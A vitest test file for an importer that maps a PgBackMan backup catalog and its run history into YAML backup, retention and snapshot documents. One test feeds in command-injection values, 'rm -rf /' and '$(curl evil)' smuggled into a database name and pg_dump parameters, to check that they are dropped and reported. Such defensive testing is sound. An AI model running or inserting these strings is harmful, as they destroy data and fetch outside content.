import { describe, expect, it } from 'vitest';
import { distinctNames, joinName, slug } from '../../../src/core/import/documents.js';
import { intervalToDuration } from '../../../src/core/import/interval.js';
import type { PgbmBackupDefinition, PgbmBackupRun, PgbmCatalog } from '../../../src/core/import/pgbackman-catalog.js';
import { mapPgbackmanHistory, runIdOf } from '../../../src/core/import/pgbackman-history.js';
import { mapPgbackman } from '../../../src/core/import/pgbackman-map.js';
import { renderYamlTree } from '../../../src/core/import/yaml-tree.js';

const NOW = Date.parse('2026-11-20T12:00:00Z');

function definition(defId: number, o: Partial<PgbmBackupDefinition> = {}): PgbmBackupDefinition {
  return {
    defId, backupServerId: 1, pgsqlNodeId: 1, dbname: 'app', minutesCron: '41', hoursCron: '01', dayMonthCron: '*', monthCron: '*', weekdayCron: '*',
    backupCode: 'FULL', encryption: false, retentionPeriod: 'P7D', retentionRedundancy: 1, extraBackupParameters: '', jobStatus: 'ACTIVE', remarks: null, ...o,
  };
}

function catalog(o: Partial<PgbmCatalog> = {}): PgbmCatalog {
  return {
    servers: [{ serverId: 1, hostname: 'pgbackup01', domainName: 'example.org', status: 'RUNNING', remarks: null, config: { root_backup_partition: '/srv/pgbackman' } }],
    nodes: [{ nodeId: 1, hostname: 'pg-node01', domainName: 'example.org', pgport: 5432, adminUser: 'postgres', status: 'RUNNING', remarks: null, config: {} }],
    backupDefinitions: [definition(1)], snapshotDefinitions: [], restoreDefinitions: [], serverDefaults: {}, nodeDefaults: {}, ...o,
  };
}

const options = { now: NOW, timezone: 'UTC' };

describe('names', () => {
  it('makes valid names of anything, and suffixes every member of a clash by its id', () => {
    expect(slug('Sales Db (ÉTÉ)')).toBe('sales-db-ete');
    expect(slug('---')).toBe('x');
    expect(slug('日本語', 63, 'db')).toBe('db');
    expect(joinName('a'.repeat(80), 'last1')).toBe(`${'a'.repeat(57)}-last1`);
    const items = [{ id: 1, b: 'pg1' }, { id: 2, b: 'pg1' }, { id: 3, b: 'pg2' }, { id: 4, b: 'pg1-2' }];
    const names = distinctNames(items, (i) => i.b, (i) => String(i.id));
    expect(items.map((i) => names.get(i))).toEqual(['pg1-1', 'pg1-2', 'pg2', 'pg1-2-4-2']);
  });

  it('converts PostgreSQL intervals, rounding seconds up', () => {
    expect(intervalToDuration('P7D')).toEqual({ duration: '7d', exact: true });
    expect(intervalToDuration('P1Y2M3DT4H5M')).toEqual({ duration: '1y2mo3d4h5m', exact: true });
    expect(intervalToDuration('PT36H')).toEqual({ duration: '36h', exact: true });
    expect(intervalToDuration('PT1M30.5S')).toEqual({ duration: '2m', exact: false });
    expect(intervalToDuration('P14M')).toEqual({ duration: '1y2mo', exact: true });
    expect(intervalToDuration('PT0S')).toEqual({ duration: null, exact: true });
    expect(intervalToDuration('P-1D')).toEqual({ duration: null, exact: false });
    expect(intervalToDuration('7 days')).toBeNull();
  });
});

describe('mapPgbackman', () => {
  it('maps a definition to a Backup with a shared Retention, and reports the approximation', () => {
    const r = mapPgbackman(catalog({ backupDefinitions: [definition(1), definition(2, { dbname: 'crm' })] }), options);
    expect(r.documents.filter((d) => d.kind === 'Backup').map((d) => [d.name, d.spec])).toEqual([
      ['pg-node01-app', { node: 'pg-node01', databases: ['app'], type: 'full', schedule: '41 01 * * *', format: 'directory', retention: 'pgbackman-7d-last1' }],
      ['pg-node01-crm', { node: 'pg-node01', databases: ['crm'], type: 'full', schedule: '41 01 * * *', format: 'directory', retention: 'pgbackman-7d-last1' }],
    ]);
    expect(r.documents.filter((d) => d.kind === 'Retention').map((d) => d.spec)).toEqual([{ keepWithin: '7d', keepLast: 1 }]);
    expect(r.findings.filter((f) => f.code === 'I_RETENTION_APPROXIMATED')).toEqual([{
      code: 'I_RETENTION_APPROXIMATED', object: 'retention_period P7D, retention_redundancy 1 (backup_definition 1, 2)',
      chosen: 'Retention pgbackman-7d-last1: keepWithin: 7d, keepLast: 1; keepWithin counts back from the newest successful backup, keepLast counts successful backups only',
    }]);
  });

  it('handles hostile values: odd names, bad cron, shell in extra parameters, passwords, zero retention', () => {
    const r = mapPgbackman(catalog({
      backupDefinitions: [
        definition(1, { dbname: '../../etc; rm -rf /', extraBackupParameters: '--no-owner; rm -rf / $(curl evil) > /tmp/x' }),
        definition(2, { minutesCron: '61' }),
        definition(3, { extraBackupParameters: `-d 'host=x password=hunter2' --format=p --exclude-table-data=log.* -Z 3` }),
        definition(4, { retentionPeriod: 'PT0S', retentionRedundancy: 0, dbname: 'zero' }),
        definition(5, { backupCode: 'CLUSTER', dbname: '', extraBackupParameters: '--clean --if-exists', encryption: true }),
      ],
    }), options);
    const backups = new Map(r.documents.filter((d) => d.kind === 'Backup').map((d) => [d.name, d.spec]));
    // Definition 2 is not written, but still takes part in naming: names never depend on what was skipped.
    expect([...backups.keys()]).toEqual(['pg-node01-etc-rm-rf', 'pg-node01-app-3', 'pg-node01-zero', 'pg-node01-cluster']);
    expect(backups.get('pg-node01-etc-rm-rf')).toMatchObject({ databases: ['../../etc; rm -rf /'] });
    expect(backups.get('pg-node01-etc-rm-rf')).not.toHaveProperty('extraArgs');
    expect(backups.get('pg-node01-app-3')).toMatchObject({ extraArgs: ['--exclude-table-data=log.*'], compression: { method: 'gzip', level: 3 } });
    expect(backups.get('pg-node01-zero')).toMatchObject({ retention: 'pgbackman-last1' });
    // --clean would make a restore drop what it did not create: refused in extraArgs, so left out and reported.
    expect(backups.get('pg-node01-cluster')).toMatchObject({ type: 'cluster', extraArgs: ['--if-exists'] });
    expect(backups.get('pg-node01-cluster')).not.toHaveProperty('compression');
    expect(JSON.stringify(r.documents)).not.toContain('hunter2');
    const found = r.findings.map((f) => `${f.code} ${f.chosen}`);
    expect(found).toEqual(expect.arrayContaining([
      expect.stringMatching(/^I_SCHEDULE_INVALID not written: schedule "61 01 \* \* \*"/),
      expect.stringMatching(/^I_PASSWORD_NOT_IMPORTED/),
      expect.stringMatching(/^I_OPTION_DROPPED extra parameter password=\*\*\* left out/),
      expect.stringMatching(/^I_OPTION_DROPPED extra parameter --format=plain left out/),
      expect.stringMatching(/^I_OPTION_DROPPED extra parameter --clean left out/),
      expect.stringMatching(/^I_OPTION_DROPPED extra parameter "--no-owner; rm -rf/),
      expect.stringMatching(/^I_ENCRYPTION_DROPPED/),
    ]));
    expect(found.join('\n')).not.toContain('hunter2');
    // A CLUSTER dump is gzipped by pgbackops as by PgBackMan: no finding.
    expect(found.some((f) => f.startsWith('I_COMPRESSION_CHANGED'))).toBe(false);
  });

  it('splits a node backed up by two servers, and writes only snapshots still to come', () => {
    const r = mapPgbackman(catalog({
      servers: [
        { serverId: 1, hostname: 'pgbackup01', domainName: 'example.org', status: 'RUNNING', remarks: null, config: {} },
        { serverId: 2, hostname: 'pgbackup02', domainName: '', status: 'STOPPED', remarks: null, config: {} },
      ],
      backupDefinitions: [definition(1), definition(2), definition(3, { backupServerId: 2 })],
      snapshotDefinitions: [
        { snapshotId: 1, backupServerId: 1, pgsqlNodeId: 1, dbname: 'app', atTime: '2026-11-01T00:00:00Z', backupCode: 'FULL', retentionPeriod: 'P30D', extraBackupParameters: '', status: 'DEFINED', remarks: null, pgDumpRelease: null },
        { snapshotId: 2, backupServerId: 1, pgsqlNodeId: 1, dbname: '', atTime: '2026-12-01T02:30:00Z', backupCode: 'CLUSTER', retentionPeriod: 'P90D', extraBackupParameters: '', status: 'WAITING', remarks: null, pgDumpRelease: null },
      ],
    }), options);
    expect(r.documents.filter((d) => d.kind === 'Node').map((d) => [d.name, d.spec.backupServer])).toEqual([['pg-node01', 'pgbackup01'], ['pg-node01-pgbackup02', 'pgbackup02']]);
    expect(r.documents.filter((d) => d.kind === 'Backup').map((d) => d.name)).toEqual(['pg-node01-app-1', 'pg-node01-app-2', 'pg-node01-pgbackup02-app']);
    expect(r.documents.filter((d) => d.kind === 'Snapshot').map((d) => [d.name, d.spec])).toEqual([
      ['pg-node01-cluster-snapshot-2', { node: 'pg-node01', type: 'cluster', at: '2026-12-01T02:30:00Z', keepFor: '90d' }],
    ]);
    expect(r.findings.map((f) => f.code)).toEqual(expect.arrayContaining(['I_NODE_SPLIT', 'I_SNAPSHOT_ALREADY_DUE', 'I_SERVER_STATUS_DROPPED']));
    // Same input, same files.
    const header = 'test';
    expect(renderYamlTree(mapPgbackman(catalog(), options).documents, header)).toEqual(renderYamlTree(mapPgbackman(catalog(), options).documents, header));
  });
});

describe('mapPgbackmanHistory', () => {
  const run = (bckId: number, o: Partial<PgbmBackupRun> = {}): PgbmBackupRun => ({
    bckId, defId: 1, snapshotId: null, backupServerId: 1, pgsqlNodeId: 1, dbname: 'app', started: '2026-11-19T01:41:00+00:00', finished: '2026-11-19T01:43:00+00:00',
    registered: '2026-11-19T01:43:00+00:00', pgDumpFile: `/srv/pgbackman/pgsql_node_1/dump/app-${bckId}-DATABASE.sql`, pgDumpFileSize: 100, pgDumpLogFile: 'None',
    pgDumpRolesFile: 'None', pgDumpRolesFileSize: 0, pgDumpDbconfigFile: 'None', pgDumpDbconfigFileSize: 0, executionStatus: 'SUCCEEDED', errorMessage: null,
    pgsqlNodeRelease: '15.4', pgDumpRelease: '15.4', ...o,
  });

  it('records each backup under a stable id, failed when its dump is gone, with its definition\'s retention', () => {
    const { names } = mapPgbackman(catalog(), options);
    const runs = [run(1), run(2, { started: '2026-11-18T01:41:00+00:00' }), run(3, { executionStatus: 'ERROR', pgDumpFile: 'None', errorMessage: 'pg_dump returncode: 1' }), run(4, { defId: 99 })];
    const existing = new Set([runs[0]!.pgDumpFile!]);
    const h = mapPgbackmanHistory(runs, names, existing, 'UTC');
    expect(h.records.map((r) => [r.status, r.failureReason, r.directory, r.definition, r.retention])).toEqual([
      ['succeeded', null, runs[0]!.pgDumpFile, 'pg-node01-app', { keepWithin: '7d', keepLast: 1 }],
      ['failed', 'missing-files', null, 'pg-node01-app', { keepWithin: '7d', keepLast: 1 }],
      ['failed', 'dump-error', null, 'pg-node01-app', { keepWithin: '7d', keepLast: 1 }],
    ]);
    expect(h.records[0]!.id).toBe(runIdOf(runs[0]!));
    expect(h.records[0]!.id).toMatch(/^[0-9a-f]{8}-[0-9a-f]{4}-5[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/);
    expect(new Set(h.records.map((r) => r.id)).size).toBe(3);
    expect(mapPgbackmanHistory(runs, names, existing, 'UTC')).toEqual(h);
    expect(h.findings.map((f) => f.code)).toEqual(['I_HISTORY_FILE_MISSING', 'I_HISTORY_UNASSIGNED', 'I_HISTORY_NOT_RESTORABLE']);
  });
});

describe('docs/migrating.md', () => {
  it('explains exactly the finding codes the importers emit', async () => {
    const { readFile } = await import('node:fs/promises');
    const { IMPORT_CODES } = await import('../../../src/core/import/findings.js');
    const text = await readFile(new URL('../../../docs/migrating.md', import.meta.url), 'utf8');
    const documented = [...text.matchAll(/^\| `(I_[A-Z0-9_]+)` \|/gm)].map((m) => m[1]).sort();
    expect(documented).toEqual(Object.keys(IMPORT_CODES).sort());
  });
});
